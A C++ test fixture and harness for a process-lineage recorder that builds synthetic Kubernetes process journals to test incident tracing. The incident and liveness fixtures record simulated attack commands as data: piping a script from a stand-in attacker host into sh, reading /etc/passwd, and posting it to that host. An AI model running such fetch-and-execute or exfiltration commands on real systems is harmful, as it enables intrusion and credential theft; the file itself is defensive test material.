#include "fixture_journal.h"

#include <fcntl.h>
#include <poll.h>
#include <signal.h>
#include <spawn.h>
#include <sys/wait.h>
#include <unistd.h>

#include <algorithm>
#include <cerrno>
#include <chrono>
#include <cstdlib>
#include <cstring>
#include <filesystem>
#include <fstream>
#include <set>
#include <sstream>
#include <stdexcept>
#include <string>

#include <fmt/format.h>

#include "argv.h"
#include "pod.h"

extern char** environ;

namespace fixture {

namespace {

constexpr size_t kRowsPerBatch = 8;
constexpr uint64_t kSnapshotDelay = 1'000'000;  // /proc is read 1 ms after the run starts

std::string base_name(const std::string& path) {
    auto slash = path.rfind('/');
    return slash == std::string::npos ? path : path.substr(slash + 1);
}

// The pod_uid column, worked out as the recorder does.
std::string pod_uid_of(const std::string& cgroup_path) {
    auto kube = lineage::parse_kube_cgroup(cgroup_path);
    return kube ? kube->pod_uid : std::string();
}

std::string pod_uid_of(const lineage::Event& event) {
    const auto* exec = std::get_if<lineage::ExecEvent>(&event);
    return exec ? pod_uid_of(exec->cgroup_path) : std::string();
}

template <typename T>
void check(const lineage::Result<T>& r, const char* what) {
    if (!r) throw std::runtime_error(fmt::format("fixture: {}: {}", what, r.error().message));
}

}  // namespace

std::string pod_cgroup(const std::string& pod_uid_dashed, const std::string& container_id_hex64) {
    std::string uid = pod_uid_dashed;
    std::replace(uid.begin(), uid.end(), '-', '_');
    return "/kubepods.slice/kubepods-burstable.slice/kubepods-burstable-pod" + uid + ".slice/cri-containerd-" +
           container_id_hex64 + ".scope";
}

FixtureJournal::FixtureJournal(RunOptions run) : run_(std::move(run)) {}

int64_t FixtureJournal::wall(uint64_t boot_ns) const {
    return static_cast<int64_t>(boot_ns) + (run_.clock_wall_ns - static_cast<int64_t>(run_.clock_boot_ns));
}

std::string FixtureJournal::key(Proc p) {
    return fmt::format("{}:{}", p.tgid, p.start_ns);
}

FixtureJournal::Tracked& FixtureJournal::track(Proc p) {
    auto [it, inserted] = procs_.try_emplace(key(p));
    if (inserted) {
        it->second.nspid = p.tgid;
        it->second.cgroup = "/";
        it->second.nodename = run_.node;
    }
    return it->second;
}

void FixtureJournal::push(uint64_t t, lineage::Event e) {
    rows_.push_back(Row{t, seq_++, std::move(e), std::nullopt, std::nullopt, std::nullopt});
}

Proc FixtureJournal::snapshot(uint32_t tgid, uint32_t ppid, uint64_t start_ns, const std::string& comm,
                              const std::string& exe, const std::vector<std::string>& argv, const std::string& cgroup,
                              const std::string& nodename, uint32_t nspid) {
    const uint64_t tick = 1'000'000'000ULL / static_cast<uint64_t>(run_.clk_tck);
    lineage::SnapshotRow row;
    row.time_ns = static_cast<int64_t>(run_.started_ns + kSnapshotDelay);
    row.tgid = tgid;
    row.nspid = nspid ? nspid : tgid;
    row.ppid = ppid;
    row.start_ns = start_ns / tick * tick;
    row.comm = comm.substr(0, 15);
    row.exe = exe;
    row.argv = lineage::join_argv(argv);
    row.cgroup_path = cgroup;
    row.nodename = nodename;
    snapshot_.push_back(row);
    Tracked& t = track(Proc{tgid, start_ns});
    t.comm = row.comm;
    t.cgroup = cgroup;
    t.nodename = nodename;
    t.nspid = row.nspid;
    return Proc{tgid, start_ns};
}

uint64_t FixtureJournal::cgroup_id(const std::string& path) {
    return cgroup_ids_.try_emplace(path, 5000 + cgroup_ids_.size()).first->second;
}

std::vector<lineage::CgroupRow> FixtureJournal::cgroup_rows() const {
    std::vector<lineage::CgroupRow> rows;
    for (const auto& [path, id] : cgroup_ids_) {
        lineage::CgroupRow row;
        row.hierarchy = 0;
        row.cgroup_id = id;
        row.path = path;
        if (auto kube = lineage::parse_kube_cgroup(path)) {
            row.pod_uid = kube->pod_uid;
            row.container_id = kube->container_id;
        }
        rows.push_back(row);
    }
    std::sort(rows.begin(), rows.end(), [](const auto& a, const auto& b) { return a.cgroup_id < b.cgroup_id; });
    return rows;
}

void FixtureJournal::membership(Proc p, lineage::MembershipHow how, const std::string& cgroup, uint64_t t,
                                std::optional<Proc> by, bool always) {
    const std::string pod = pod_uid_of(cgroup);
    if (pod.empty() && !always) return;
    const Tracked& tr = track(p);
    lineage::MembershipRow row;
    row.time_ns = static_cast<int64_t>(t);
    row.proc = p;
    row.nspid = tr.nspid;
    row.how = how;
    row.hierarchy = 0;
    row.cgroup_id = cgroup_id(cgroup);
    row.pod_uid = pod;
    row.uts_ns = how == lineage::MembershipHow::exec ? 4026532000u : 0u;
    if (by) row.by = *by;
    row.comm = tr.comm;
    rows_.push_back(Row{t, seq_++, std::nullopt, std::nullopt, row, std::nullopt});
}

void FixtureJournal::fork(Proc parent, Proc child, uint64_t t, std::optional<uint32_t> nspid) {
    const Tracked& p = track(parent);
    Tracked c = p;  // a child runs its parent's image, in its cgroup and UTS namespace
    c.forker = parent;
    c.exited_at.reset();
    c.nspid = nspid ? *nspid : child.tgid;
    procs_[key(child)] = c;
    lineage::ForkEvent e;
    e.time_ns = t;
    e.parent = parent;
    e.child = child;
    e.parent_comm = p.comm;
    push(t, e);
    membership(child, lineage::MembershipHow::fork, c.cgroup, t, parent);
}

void FixtureJournal::move(Proc p, const std::string& cgroup, uint64_t t, Proc mover) {
    track(p).cgroup = cgroup;
    membership(p, lineage::MembershipHow::move, cgroup, t, mover, true);
}

void FixtureJournal::exec(Proc p, const std::string& binary, const std::vector<std::string>& argv, uint64_t t,
                          ExecOpts opts) {
    Tracked& tr = track(p);
    if (opts.cgroup) tr.cgroup = *opts.cgroup;
    if (opts.nodename) tr.nodename = *opts.nodename;
    if (opts.nspid) tr.nspid = *opts.nspid;
    lineage::ExecEvent e;
    e.time_ns = t;
    e.proc = p;
    if (opts.parent) {
        e.parent = *opts.parent;
    } else if (tr.forker) {
        const Tracked& f = track(*tr.forker);
        e.parent = f.exited_at && *f.exited_at <= t ? reaper_ : *tr.forker;
    } else {
        e.parent = reaper_;
    }
    e.parent_comm = track(e.parent).comm;
    e.nspid = tr.nspid;
    e.old_tid = p.tgid;
    e.uid = opts.uid;
    e.gid = opts.gid;
    e.euid = opts.euid;
    e.truncated = opts.truncated;
    e.cgroup_id = cgroup_id(tr.cgroup);
    e.comm = opts.comm ? *opts.comm : base_name(binary).substr(0, 15);
    tr.comm = e.comm;
    e.nodename = tr.nodename;
    e.cgroup_path = tr.cgroup;
    e.binary = binary;
    e.argv = opts.raw_argv ? *opts.raw_argv : lineage::join_argv(argv);
    e.file = opts.file;
    push(t, e);
    membership(p, lineage::MembershipHow::exec, tr.cgroup, t);
}

void FixtureJournal::exec(Proc p, const std::string& binary, const std::vector<std::string>& argv, uint64_t t,
                          const std::string& cgroup, const std::string& nodename, std::optional<uint32_t> nspid) {
    ExecOpts opts;
    opts.cgroup = cgroup;
    opts.nodename = nodename;
    opts.nspid = nspid;
    exec(p, binary, argv, t, opts);
}

void FixtureJournal::exit(Proc p, uint64_t t, int code, int signal, bool core_dumped) {
    Tracked& tr = track(p);
    tr.exited_at = t;
    lineage::ExitEvent e;
    e.time_ns = t;
    e.proc = p;
    e.code = code;
    e.signal = signal;
    e.core_dumped = core_dumped;
    e.comm = tr.comm;
    push(t, e);
}

void FixtureJournal::connect(Proc p, const std::string& daddr, uint16_t dport, uint64_t t, bool established,
                             const std::string& saddr, uint16_t sport, int family) {
    lineage::ConnectEvent e;
    e.time_ns = t;
    e.outcome_ns = t + 2'500'000;  // the handshake took 2.5 ms
    e.proc = p;
    e.family = family;
    e.saddr = saddr;
    e.sport = sport;
    e.daddr = daddr;
    e.dport = dport;
    e.established = established;
    push(t, e);
}

void FixtureJournal::loss(uint64_t from_ns, uint64_t to_ns, int64_t count, const std::string& reason) {
    rows_.push_back(
        Row{to_ns, seq_++, std::nullopt, LossRow{from_ns, to_ns, count, reason}, std::nullopt, std::nullopt});
}

void FixtureJournal::listen(Proc p, const std::string& addr, uint16_t port, uint64_t t, int family) {
    lineage::ListenEvent e;
    e.time_ns = t;
    e.proc = p;
    e.family = family;
    e.addr = addr;
    e.port = port;
    push(t, e);
}

void FixtureJournal::dns(const lineage::DnsEvent& e) {
    push(e.time_ns, e);
}

void FixtureJournal::file_hash(const lineage::FileHashRow& row) {
    rows_.push_back(Row{static_cast<uint64_t>(row.time_ns), seq_++, std::nullopt, std::nullopt, std::nullopt, row});
}

void FixtureJournal::pod(const std::string& pod_uid, const std::string& name, const std::string& ns,
                         const std::string& source) {
    pods_.push_back(PodRow{pod_uid, name, ns, source});
}

lineage::RunInfo FixtureJournal::run_info(uint64_t started_ns) const {
    lineage::RunInfo info;
    info.boot_id = run_.boot_id;
    info.node = run_.node;
    info.started_ns = static_cast<int64_t>(started_ns);
    info.started_wall_ns = wall(started_ns);
    info.version = "0.1.0-fixture";
    info.kernel = "6.1.0-fixture #1 SMP PREEMPT_DYNAMIC";
    info.hooks = "fork,exec,exit,connect";
    info.filters_json = "{}";
    info.argv_cap = run_.argv_cap;
    info.clk_tck = run_.clk_tck;
    info.recorder_pid = 555;
    return info;
}

void FixtureJournal::write(const std::string& path) const {
    auto w = lineage::JournalWriter::open(path);
    check(w, "open");
    if (run_.unexited_every_rows || run_.unexited_max) {
        w->set_unexited_limits(run_.unexited_every_rows ? run_.unexited_every_rows : 4096,
                               run_.unexited_max ? run_.unexited_max : 262'144);
    }
    check(w->begin_run(run_info(run_.started_ns)), "begin_run");
    if (run_.clock_boot_ns != run_.started_ns) {
        check(w->add_clock_sample(static_cast<int64_t>(run_.clock_boot_ns), run_.clock_wall_ns), "clock sample");
    }

    // Batch 1: what the recorder learns at start (the /proc snapshot, pod names).
    for (const auto& s : snapshot_) check(w->add_snapshot(s, pod_uid_of(s.cgroup_path)), "snapshot");
    for (const auto& p : pods_) check(w->add_pod(p.uid, p.name, p.ns, lineage::pod_name_source_from(p.source)), "pod");
    for (const auto& c : containers_) check(w->add_container(c), "container");
    uint64_t committed = run_.started_ns + kSnapshotDelay;
    check(w->commit(static_cast<int64_t>(committed)), "commit");

    std::vector<Row> rows = rows_;
    std::stable_sort(rows.begin(), rows.end(), [](const Row& a, const Row& b) {
        return a.time_ns != b.time_ns ? a.time_ns < b.time_ns : a.seq < b.seq;
    });
    size_t in_batch = 0;
    std::set<uint64_t> cgroups_written;
    const std::vector<lineage::CgroupRow> cgroups = cgroup_rows();
    for (const auto& r : rows) {
        if (r.event) {
            check(w->add(*r.event, pod_uid_of(*r.event)), "event");
        } else if (r.membership) {
            // The cgroup's row first, once, as the recorder writes it.
            if (cgroups_written.insert(r.membership->cgroup_id).second) {
                for (const auto& c : cgroups) {
                    if (c.cgroup_id == r.membership->cgroup_id) check(w->add_cgroup(c), "cgroup");
                }
            }
            check(w->add_membership(*r.membership), "membership");
        } else if (r.file_hash) {
            check(w->add_file_hash(*r.file_hash), "file hash");
        } else {
            check(w->add_loss(static_cast<int64_t>(r.loss->from_ns), static_cast<int64_t>(r.loss->to_ns), r.loss->count,
                              r.loss->reason),
                  "loss");
        }
        committed = std::max(committed, r.time_ns);
        if (++in_batch == kRowsPerBatch) {
            check(w->commit(static_cast<int64_t>(committed)), "commit");
            in_batch = 0;
        }
    }
    check(w->commit(static_cast<int64_t>(committed)), "commit");
    if (run_.clean_stop) {
        check(w->end_run(static_cast<int64_t>(run_.stopped_ns), wall(run_.stopped_ns), "signal",
                         static_cast<int64_t>(rows.size()), 0),
              "end_run");
    }
    // The writer closes here; a clean stop has folded the WAL back.
}

void FixtureJournal::load_into(lineage::Model& model, const std::string& journal_name) const {
    uint64_t last_batch = run_.started_ns + kSnapshotDelay;
    for (const auto& r : rows_) last_batch = std::max(last_batch, r.time_ns);
    lineage::RunRecord run;
    run.journal = journal_name;
    run.run_id = 1;
    run.boot_id = run_.boot_id;
    run.node = run_.node;
    run.started_ns = static_cast<int64_t>(run_.started_ns);
    if (run_.clean_stop) {
        run.stopped_ns = static_cast<int64_t>(run_.stopped_ns);
        run.stop_reason = "signal";
    }
    run.last_batch_ns = static_cast<int64_t>(last_batch);
    run.clk_tck = run_.clk_tck;
    run.hooks = "fork,exec,exit,connect";
    run.filters = "{}";
    model.add_run(run);
    model.add_clock_sample(run_.boot_id, static_cast<int64_t>(run_.started_ns), wall(run_.started_ns));
    model.add_clock_sample(run_.boot_id, static_cast<int64_t>(run_.clock_boot_ns), run_.clock_wall_ns);
    if (run_.clean_stop) {
        model.add_clock_sample(run_.boot_id, static_cast<int64_t>(run_.stopped_ns), wall(run_.stopped_ns));
    }
    auto pod_ref = [](const std::string& cgroup_path) {
        lineage::PodRef pod;
        if (auto kube = lineage::parse_kube_cgroup(cgroup_path)) pod = {kube->pod_uid, kube->container_id};
        return pod;
    };
    for (const auto& s : snapshot_) model.add_snapshot(run_.boot_id, 1, s, pod_ref(s.cgroup_path));
    for (const auto& p : pods_)
        model.add_pod(p.uid, lineage::PodNameRecord{p.name, p.ns, lineage::pod_name_source_from(p.source)});
    for (const auto& c : containers_) model.add_container(c);
    // The order JournalReader reads in: table by table, rows in time order.
    std::vector<Row> rows = rows_;
    std::stable_sort(rows.begin(), rows.end(), [](const Row& a, const Row& b) {
        return a.time_ns != b.time_ns ? a.time_ns < b.time_ns : a.seq < b.seq;
    });
    for (size_t kind : {0, 1, 2, 3, 6}) {
        for (const auto& r : rows) {
            if (!r.event || r.event->index() != kind) continue;
            std::visit(
                [&](const auto& e) {
                    using T = std::decay_t<decltype(e)>;
                    if constexpr (std::is_same_v<T, lineage::ForkEvent>)
                        model.add_fork(run_.boot_id, e);
                    else if constexpr (std::is_same_v<T, lineage::ExecEvent>)
                        model.add_exec(run_.boot_id, e, pod_ref(e.cgroup_path));
                    else if constexpr (std::is_same_v<T, lineage::ExitEvent>)
                        model.add_exit(run_.boot_id, e);
                    else if constexpr (std::is_same_v<T, lineage::ConnectEvent>)
                        model.add_connect(run_.boot_id, e);
                    else if constexpr (std::is_same_v<T, lineage::ListenEvent>)
                        model.add_listen(run_.boot_id, e);
                    else if constexpr (std::is_same_v<T, lineage::DnsEvent>)
                        model.add_dns(run_.boot_id, e);
                },
                *r.event);
        }
    }
    const std::vector<lineage::CgroupRow> cgroups = cgroup_rows();
    for (const auto& r : rows) {
        if (!r.membership) continue;
        lineage::PodRef pod{r.membership->pod_uid, ""};
        for (const auto& c : cgroups) {
            if (c.cgroup_id == r.membership->cgroup_id && c.pod_uid == pod.uid) pod.container_id = c.container_id;
        }
        model.add_membership(run_.boot_id, *r.membership, pod);
    }
    for (const auto& r : rows)
        if (r.file_hash) model.add_file_hash(*r.file_hash);
    for (const auto& r : rows) {
        if (!r.loss) continue;
        model.add_loss(lineage::LossRecord{journal_name, run_.boot_id, static_cast<int64_t>(r.loss->from_ns),
                                           static_cast<int64_t>(r.loss->to_ns), r.loss->count, r.loss->reason});
    }
}

lineage::Model FixtureJournal::build_model(const std::string& journal_name) const {
    lineage::Model model;
    load_into(model, journal_name);
    model.finish();
    return model;
}

// ---------------------------------------------------------------- harness

RunResult run_process(const std::vector<std::string>& command, const std::string& cwd, const EnvEdits& edits,
                      double deadline_s) {
    const char* tmp = std::getenv("TMPDIR");
    std::string err_tmpl = std::string(tmp && *tmp ? tmp : "/tmp") + "/lineage-test-stderr.XXXXXX";
    int err_fd = mkostemp(err_tmpl.data(), O_CLOEXEC);
    if (err_fd < 0) throw std::runtime_error(std::string("mkostemp: ") + std::strerror(errno));
    ::close(err_fd);
    const std::string err_path = err_tmpl;

    std::map<std::string, std::string> env;
    for (char** e = environ; *e; ++e) {
        std::string kv = *e;
        auto eq = kv.find('=');
        if (eq != std::string::npos) env[kv.substr(0, eq)] = kv.substr(eq + 1);
    }
    env.erase("NO_COLOR");
    env["TZ"] = "UTC";
    for (const auto& [k, v] : edits) {
        if (v)
            env[k] = *v;
        else
            env.erase(k);
    }
    std::vector<std::string> env_strings;
    for (const auto& [k, v] : env) env_strings.push_back(k + "=" + v);
    std::vector<char*> envp;
    for (auto& s : env_strings) envp.push_back(s.data());
    envp.push_back(nullptr);

    std::string rss_path;
    std::vector<std::string> argv_strings = command;
    if (deadline_s > 0) {
        rss_path = err_path + ".rss";
        argv_strings.insert(argv_strings.begin(), {LINEAGE_TEST_MEASURE, rss_path});
    }
    std::vector<char*> argv;
    for (auto& s : argv_strings) argv.push_back(s.data());
    argv.push_back(nullptr);

    // stdout is a pipe, as with popen(); stderr a file, so there is only one
    // pipe to drain and no deadlock.
    int out_pipe[2];
    if (pipe2(out_pipe, O_CLOEXEC) != 0) throw std::runtime_error(std::string("pipe2: ") + std::strerror(errno));
    posix_spawn_file_actions_t fa;
    posix_spawn_file_actions_init(&fa);
    posix_spawn_file_actions_addopen(&fa, 0, "/dev/null", O_RDONLY, 0);
    posix_spawn_file_actions_adddup2(&fa, out_pipe[1], 1);
    posix_spawn_file_actions_addopen(&fa, 2, err_path.c_str(), O_WRONLY | O_CREAT | O_TRUNC, 0600);
    posix_spawn_file_actions_addchdir_np(&fa, cwd.c_str());
    // Its own process group, so that a deadline kills the command too.
    posix_spawnattr_t attr;
    posix_spawnattr_init(&attr);
    posix_spawnattr_setflags(&attr, POSIX_SPAWN_SETPGROUP);
    posix_spawnattr_setpgroup(&attr, 0);
    pid_t pid = -1;
    const auto started = std::chrono::steady_clock::now();
    int rc = posix_spawn(&pid, argv[0], &fa, &attr, argv.data(), envp.data());
    posix_spawn_file_actions_destroy(&fa);
    posix_spawnattr_destroy(&attr);
    ::close(out_pipe[1]);
    if (rc != 0) {
        ::close(out_pipe[0]);
        throw std::runtime_error(fmt::format("posix_spawn {}: {}", argv[0], std::strerror(rc)));
    }
    RunResult r;
    char buf[1 << 16];
    auto elapsed = [&] { return std::chrono::duration<double>(std::chrono::steady_clock::now() - started).count(); };
    for (;;) {
        if (deadline_s > 0 && !r.killed) {
            struct pollfd pfd {
                out_pipe[0], POLLIN, 0
            };
            const double left = deadline_s - elapsed();
            if (left <= 0 || poll(&pfd, 1, static_cast<int>(left * 1000) + 1) == 0) {
                if (elapsed() >= deadline_s) {
                    ::kill(-pid, SIGKILL);
                    r.killed = true;
                }
                continue;
            }
        }
        ssize_t n = ::read(out_pipe[0], buf, sizeof(buf));
        if (n > 0) {
            r.out.append(buf, static_cast<size_t>(n));
        } else if (n == 0 || errno != EINTR) {
            break;
        }
    }
    ::close(out_pipe[0]);
    int wstatus = 0;
    while (waitpid(pid, &wstatus, 0) < 0) {
        if (errno != EINTR) throw std::runtime_error(std::string("waitpid: ") + std::strerror(errno));
    }
    r.wall_s = elapsed();
    r.status = WIFEXITED(wstatus) ? WEXITSTATUS(wstatus) : 128 + WTERMSIG(wstatus);
    if (!rss_path.empty()) {
        std::error_code ec;
        if (std::filesystem::exists(rss_path, ec)) r.maxrss_kib = std::stoll("0" + read_file(rss_path));
        std::filesystem::remove(rss_path, ec);
    }
    r.err = read_file(err_path);
    std::filesystem::remove(err_path);
    return r;
}

RunResult run_lineage(const std::vector<std::string>& args, const std::string& cwd, const EnvEdits& edits,
                      double deadline_s) {
    std::vector<std::string> command{LINEAGE_BIN};
    command.insert(command.end(), args.begin(), args.end());
    return run_process(command, cwd, edits, deadline_s);
}

std::string schema_errors(const std::string& schema, const std::vector<std::string>& files) {
    const std::string python = "/usr/bin/python3";
    if (run_process({python, "-c", "import jsonschema"}, "/").status != 0)
        return "JSON Schema validation needs python3-jsonschema (apt-get install python3-jsonschema)";
    std::vector<std::string> cmd{python, "-c", "from jsonschema.cli import main; main()"};
    for (const auto& f : files) {
        cmd.push_back("-i");
        cmd.push_back(f);
    }
    cmd.push_back(std::string(LINEAGE_SOURCE_DIR) + "/schema/" + schema);
    RunResult r = run_process(cmd, "/");
    return r.status == 0 ? "" : r.out + r.err;
}

std::string golden_path(const std::string& name) {
    return std::string(LINEAGE_SOURCE_DIR) + "/testdata/golden/" + name;
}

bool update_goldens() {
    const char* v = std::getenv("LINEAGE_UPDATE_GOLDEN");
    return v && std::string(v) == "1";
}

std::string golden_mismatch(const std::string& name, const std::string& actual) {
    const std::string path = golden_path(name);
    if (update_goldens()) {
        std::filesystem::create_directories(std::filesystem::path(path).parent_path());
        write_file(path, actual);
        return "";
    }
    if (!std::filesystem::exists(path)) {
        return fmt::format(
            "golden file {} is missing; run with LINEAGE_UPDATE_GOLDEN=1 to create it, then "
            "review it",
            path);
    }
    const std::string expected = read_file(path);
    if (expected == actual) return "";
    // First differing line, 1-based, both versions (shortened).
    size_t line = 1, pos = 0;
    while (pos < expected.size() && pos < actual.size() && expected[pos] == actual[pos]) {
        if (expected[pos] == '\n') ++line;
        ++pos;
    }
    auto line_at = [&](const std::string& s) {
        size_t start = s.rfind('\n', pos == 0 ? 0 : pos - 1);
        start = (start == std::string::npos || pos == 0) ? 0 : start + 1;
        size_t end = s.find('\n', pos);
        std::string l = s.substr(start, end == std::string::npos ? std::string::npos : end - start);
        if (l.size() > 300) l = l.substr(0, 300) + "...";
        return l;
    };
    return fmt::format(
        "output differs from {} (expected {} bytes, got {}) at line {}:\n  golden: {}\n  actual: {}\n"
        "(LINEAGE_UPDATE_GOLDEN=1 rewrites the goldens; review the diff before keeping it)",
        path, expected.size(), actual.size(), line, line_at(expected), line_at(actual));
}

// ---------------------------------------------------------------- the seed incident

FixtureJournal incident_fixture() {
    FixtureJournal fx;
    const std::string pod_cg = pod_cgroup(kIncidentPodUid, kIncidentContainer);
    const std::string host_cg = "/system.slice/containerd.service";

    Proc init = fx.snapshot(1, 0, at(0, 500'000'000), "systemd", "/usr/lib/systemd/systemd", {"/sbin/init", "splash"},
                            "/init.scope");
    Proc shim = fx.snapshot(18150, 1, at(940, 801'234'567), "containerd-shim", "/usr/bin/containerd-shim-runc-v2",
                            {"/usr/bin/containerd-shim-runc-v2", "-namespace", "k8s.io", "-id",
                             kIncidentContainer.substr(0, 12), "-address", "/run/containerd/containerd.sock"},
                            host_cg);
    fx.pod(kIncidentPodUid, kIncidentPodName, kIncidentNamespace, "log-dir");
    // What containerd's bundle said of the app's container when runc
    // created it (schema version 7).
    lineage::ContainerRow bundle;
    bundle.time_ns = static_cast<int64_t>(at(1000, 100'000'000));
    bundle.container_id = kIncidentContainer;
    bundle.pod_uid = kIncidentPodUid;
    bundle.pod_name = kIncidentPodName;
    bundle.pod_namespace = kIncidentNamespace;
    bundle.name = "my-app";
    bundle.image = "registry.example.test/shop/my-app:2.3.1";
    bundle.type = "container";
    bundle.source = "bundle";
    bundle.path = "/run/containerd/io.containerd.runtime.v2.task/k8s.io/" + kIncidentContainer + "/config.json";
    fx.container(bundle);

    Proc app = FixtureJournal::proc(18201, at(1000, 123'456'789));
    fx.fork(shim, app, at(1000, 123'456'789));
    fx.exec(app, "/usr/local/bin/my-app", {"/usr/local/bin/my-app", "--port", "8080"}, at(1000, 130'000'000), pod_cg,
            kIncidentPodName, 1);
    fx.connect(app, "10.96.14.2", 5432, at(1000, 480'000'000));  // its database, as usual

    Proc sh1 = FixtureJournal::proc(18293, at(1042, 500'012'345));
    fx.fork(app, sh1, at(1042, 500'012'345));
    fx.exec(sh1, "/bin/sh", {"sh", "-c", "curl http://attacker.com/payload.sh | sh"}, at(1042, 501'000'000), pod_cg,
            kIncidentPodName, 27);

    Proc sh2 = FixtureJournal::proc(18294, at(1042, 900'111'222));
    fx.fork(sh1, sh2, at(1042, 900'111'222));
    fx.exec(sh2, "/bin/sh", {"sh", "payload.sh"}, at(1042, 901'000'000), pod_cg, kIncidentPodName, 28);

    Proc cat = FixtureJournal::proc(18295, at(1043, 100'000'001));
    fx.fork(sh2, cat, at(1043, 100'000'001));
    fx.exec(cat, "/bin/cat", {"cat", "/etc/passwd"}, at(1043, 101'000'000), pod_cg, kIncidentPodName, 29);
    fx.exit(cat, at(1043, 104'000'000), 0);

    Proc curl = FixtureJournal::proc(18296, at(1043, 200'000'002));
    fx.fork(sh2, curl, at(1043, 200'000'002));
    fx.exec(curl, "/usr/bin/curl", {"curl", "http://attacker.com/exfil", "-d", "@/etc/passwd"}, at(1043, 201'000'000),
            pod_cg, kIncidentPodName, 30);
    fx.connect(curl, "93.184.216.34", 80, at(1043, 350'000'000));
    fx.exit(curl, at(1043, 900'000'000), 0);

    fx.exit(sh2, at(1044, 0), 0);
    fx.exit(sh1, at(1044, 10'000'000), 0);

    // The node's own activity in the same minute: never part of the pod's tree.
    Proc jctl = FixtureJournal::proc(19000, at(1050, 250'000'000));
    fx.fork(init, jctl, at(1050, 250'000'000));
    fx.exec(jctl, "/usr/bin/journalctl", {"journalctl", "-u", "kubelet", "--since", "-5m"}, at(1050, 251'000'000),
            "/system.slice/cron.service", "node-1");
    fx.exit(jctl, at(1050, 700'000'000), 0);
    return fx;
}

}  // namespace fixture

namespace fixture {

FixtureJournal liveness_fixture() {
    FixtureJournal fx;
    const std::string pod_cg = pod_cgroup(kLivenessPodUid, kLivenessContainer);
    fx.snapshot(1, 0, at(0, 500'000'000), "systemd", "/usr/lib/systemd/systemd", {"/sbin/init"}, "/init.scope");
    Proc shim =
        fx.snapshot(30000, 1, at(940, 700'000'000), "containerd-shim", "/usr/bin/containerd-shim-runc-v2",
                    {"/usr/bin/containerd-shim-runc-v2", "-namespace", "k8s.io"}, "/system.slice/containerd.service");
    fx.pod(kLivenessPodUid, kLivenessPodName, kLivenessNamespace, "log-dir");

    Proc loop = FixtureJournal::proc(kLivenessLoopPid, at(999, 900'000'000));
    fx.fork(shim, loop, at(999, 900'000'000));
    fx.exec(loop, "/bin/sh", {"sh", "/app/loop.sh"}, at(999, 910'000'000), pod_cg, kLivenessPodName, 1);

    uint32_t pid = kLivenessLoopPid + 1;
    for (int k = 0; k < 20; ++k) {
        const uint64_t t = at(1000 + 10 * k, 20'000'000);
        Proc probe = FixtureJournal::proc(pid++, t);
        fx.fork(loop, probe, t);
        fx.exec(probe, "/bin/sh", {"sh", "-c", "test -f /tmp/healthy"}, t + 1'000'000);
        fx.exit(probe, t + 3'000'000, probe.tgid == kLivenessOddPid ? 1 : 0);
        Proc sleep = FixtureJournal::proc(pid++, t + 4'000'000);
        fx.fork(loop, sleep, t + 4'000'000);
        fx.exec(sleep, "/bin/sleep", {"sleep", "10"}, t + 5'000'000);
        fx.exit(sleep, at(1000 + 10 * k + 10, 5'000'000), 0);
    }

    Proc batch = FixtureJournal::proc(kLivenessBatchPid, at(1030, 0));
    fx.fork(loop, batch, at(1030, 0));
    fx.exec(batch, "/bin/sh", {"sh", "/app/batch.sh"}, at(1030, 1'000'000));
    uint32_t bpid = kLivenessBatchPid + 1;
    for (int k = 0; k < 4; ++k) {
        const uint64_t t = at(1031 + k, 0);
        Proc part = FixtureJournal::proc(bpid++, t);
        fx.fork(batch, part, t);
        fx.exec(part, "/bin/sh", {"sh", "-c", "gzip -9 /var/log/app/*.log"}, t + 1'000'000);
        for (int g = 0; g < 3; ++g) {
            Proc gz = FixtureJournal::proc(bpid++, t + (2 + g) * 10'000'000);
            fx.fork(part, gz, t + (2 + g) * 10'000'000);
            fx.exec(gz, "/bin/gzip", {"gzip", "-9"}, t + (2 + g) * 10'000'000 + 1'000'000);
            fx.exit(gz, t + (2 + g) * 10'000'000 + 5'000'000, 0);
        }
        fx.exit(part, t + 500'000'000, 0);
    }
    fx.exit(batch, at(1036, 0), 0);

    Proc sh1 = FixtureJournal::proc(30600, at(1142, 500'000'000));
    fx.fork(loop, sh1, at(1142, 500'000'000));
    fx.exec(sh1, "/bin/sh", {"sh", "-c", "curl -s http://attacker.example/x | sh"}, at(1142, 501'000'000));
    Proc sh2 = FixtureJournal::proc(30601, at(1142, 600'000'000));
    fx.fork(sh1, sh2, at(1142, 600'000'000));
    fx.exec(sh2, "/bin/sh", {"sh"}, at(1142, 601'000'000));
    Proc curl = FixtureJournal::proc(kLivenessCurlPid, at(1142, 700'000'000));
    fx.fork(sh2, curl, at(1142, 700'000'000));
    fx.exec(curl, "/usr/bin/curl", {"curl", "-s", "https://203.0.113.9/stage2"}, at(1142, 701'000'000));
    fx.connect(curl, "203.0.113.9", 443, at(1142, 750'000'000));
    fx.exit(curl, at(1143, 0), 0);
    fx.exit(sh2, at(1143, 10'000'000), 0);
    fx.exit(sh1, at(1143, 20'000'000), 0);

    fx.loss(at(1120), at(1121), 3);

    Proc session = FixtureJournal::proc(30700, at(1150, 0));
    fx.fork(shim, session, at(1150, 0));
    fx.exec(session, "/bin/sh", {"sh"}, at(1150, 1'000'000), pod_cg, kLivenessPodName, 40);
    Proc ls = FixtureJournal::proc(30701, at(1151, 0));
    fx.fork(session, ls, at(1151, 0));
    fx.exec(ls, "/bin/ls", {"ls", "/"}, at(1151, 1'000'000));
    fx.exit(ls, at(1151, 5'000'000), 0);
    fx.exit(session, at(1160, 0), 0);
    return fx;
}

}  // namespace fixture
